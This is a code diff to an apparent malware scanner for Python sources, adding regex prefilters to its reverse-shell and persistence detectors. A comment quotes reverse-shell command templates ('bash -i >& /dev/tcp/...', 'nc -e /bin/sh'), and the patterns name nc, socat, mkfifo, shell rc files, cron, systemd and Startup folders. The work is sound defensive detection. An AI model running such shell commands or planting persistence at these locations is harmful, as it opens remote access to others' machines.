@@ -20,7 +20,7 @@ export function reverseShell(facts: PythonFacts): Reason[] {
     }
   }
   // Commands put together at run time: f"bash -i >& /dev/tcp/{host}/{port} 0>&1", 'nc -e /bin/sh ' + host.
-  if (reasons.length === 0) {
+  if (reasons.length === 0 && /\/dev\/tcp|\bnc(at)?\b|socat|bash\s+-i|mkfifo/.test(facts.source)) {
     for (const call of facts.calls) {
       if (!isProcessCall(call.name) && call.name !== 'pty.spawn') continue;
       const text = positionalArguments(call.node).map((a) => approximate(facts, a).text).join(' ');
@@ -65,7 +65,8 @@ export function persistence(facts: PythonFacts, role: FileRole): Reason[] {
   });
   // Paths put together from pieces: os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup').
   for (const call of facts.calls) {
-    if (!/^(os\.path\.join|pathlib\.Path|Path)$|\.joinpath$/.test(call.name) || call.node.text.length > 400) continue;
+    if (!/^(os\.path\.join|pathlib\.Path|Path)$|\.joinpath$/.test(call.name) || call.node.endIndex - call.node.startIndex > 400) continue;
+    if (!/rc\b|rc['"]|profile|zsh|fish|cron|systemd|autostart|startup|\bRun\b|launch|customize/i.test(call.node.text)) continue;
     const value = approximate(facts, call.node).text;
     const hit = PERSISTENCE_PLACES.find(([pattern]) => pattern.test(value));
     if (hit) places.push({ kind: hit[1], line: call.line, value });
